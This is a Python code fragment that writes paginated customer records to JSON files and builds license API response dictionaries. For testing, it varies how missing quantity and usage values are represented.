    for current, start in enumerate(starts, start=1):
        items = [_api_customer(row, number) for number, row in enumerate(rows[start : start + API_PAGE_SIZE])]
        pages = {
            "current": current,
            "size": API_PAGE_SIZE,
            "maxSize": 100,
            "total": len(starts),
            "items": len(rows),
        }
        path = folder / f"customers_{day}_page_{current}.json"
        text = json.dumps({"items": items, "pages": pages}, ensure_ascii=False, indent=2)
        path.write_text(text + "\n", encoding="utf-8", newline="\n")
        paths.append(path)
    return paths


def _fits_license_api(row: Row) -> bool:
    """Tell whether a license answer can say all of this row: the API always has these three."""
    return all(row[column] is not None for column in ("license_number", "is_perpetual", "is_unlimited"))


def _api_license(row: Row) -> dict[str, object]:
    product = {
        "code": row["product_code"],
        "name": row["product_name"],
        "genericCode": row["product_generic_code"],
    }
    usage = {"count": row["used"], "date": _cell(row["used_on"]) or None}
    answer: dict[str, object] = {
        "id": row["license_id"],
        "licenseIdentifier": row["license_number"],
        "product": _known(product),
        "startDate": _cell(row["start_date"]),
        "perpetual": row["is_perpetual"],
        "unlimited": row["is_unlimited"],
        "type": row["license_type"],
    }
    if row["end_date"] is not None:
        answer["endDate"] = _cell(row["end_date"])
    # "optional or null", and of usage "every level": so the ways of saying nothing take turns.
    way = sum(map(ord, str(row["license_id"]))) % 4
    if row["quantity"] is not None or way == 0:
        answer["quantity"] = row["quantity"]
    if row["used"] is not None:
        answer["usage"] = {"current": _known(usage)}
    elif way:
        answer["usage"] = (None, {"current": None}, {"current": {"count": None}})[way - 1]
    return answer
